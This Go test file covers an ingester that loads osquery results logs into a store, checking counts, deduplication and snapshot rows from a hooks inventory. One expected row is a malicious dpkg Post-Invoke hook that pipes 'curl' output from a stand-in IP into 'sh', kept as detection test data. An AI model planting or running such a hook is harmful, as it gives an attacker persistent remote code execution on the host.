package ingest

import (
	"bytes"
	"compress/gzip"
	"context"
	"github.com/pkgpersist/pkgpersist/test/storetest"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/pkgpersist/pkgpersist/collector/store"
)

// TestRead: a results log with all three formats on two hosts, a bad line
// and a blank one; read again, and gzipped, it adds nothing.
func TestRead(t *testing.T) {
	st := storetest.Open(t)
	defer st.Close()
	data, err := os.ReadFile("testdata/osqueryd.results.log")
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	s, err := Read(ctx, st, bytes.NewReader(data), "results.log")
	if err != nil {
		t.Fatal(err)
	}
	if s.Lines != 5 || s.Rows != 5 || s.New != 5 || s.Bad != 1 || len(s.Errors) != 1 {
		t.Errorf("first read: %+v", s)
	}
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write(data)
	zw.Close()
	for _, r := range [][]byte{data, gz.Bytes()} {
		s, err := Read(ctx, st, bytes.NewReader(r), "again")
		if err != nil || s.Rows != 5 || s.New != 0 {
			t.Errorf("read again: %+v %v", s, err)
		}
	}
	for host, want := range map[string]int{"web1": 2, "web2": 3} {
		if n, _ := st.CountLogged(ctx, host); n != want {
			t.Errorf("%s: %d rows, want %d", host, n, want)
		}
	}
	cs, err := st.Diff(ctx, store.Window{Since: time.Unix(1795377000, 0)})
	if err != nil || len(cs) != 4 {
		t.Errorf("diff: %d changes (%v), want 4 (the snapshot stays out)", len(cs), err)
	}
}

// TestSnapshotEvents: osqueryd with --logger_snapshot_event_type logs each
// snapshot row as its own line (action snapshot, the row in columns); each
// is stored as a snapshot row of its query.
func TestSnapshotEvents(t *testing.T) {
	st := openStore(t)
	ctx := context.Background()
	f, err := os.Open("testdata/snapshot-events.results.log")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	s, err := Read(ctx, st, f, "snap.log")
	if err != nil || s.Lines != 2 || s.Rows != 2 || s.New != 2 || s.Bad != 0 {
		t.Fatalf("%+v %v", s, err)
	}
	rows, err := st.LoggedRows(ctx, "hooks-inventory", time.Unix(0, 0))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, r := range rows {
		got = append(got, r.Host+" "+r.Row["hook"]+" "+r.Row["command"])
	}
	want := []string{"web1 APT::Update::Post-Invoke-Success /usr/bin/test -x /usr/lib/cnf-update-db", "web1 DPkg::Post-Invoke curl -fsS http://203.0.113.7/p | sh"}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("stored snapshot rows:\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func openStore(t *testing.T) *store.DB {
	t.Helper()
	st := storetest.Open(t)
	t.Cleanup(func() { st.Close() })
	return st
}
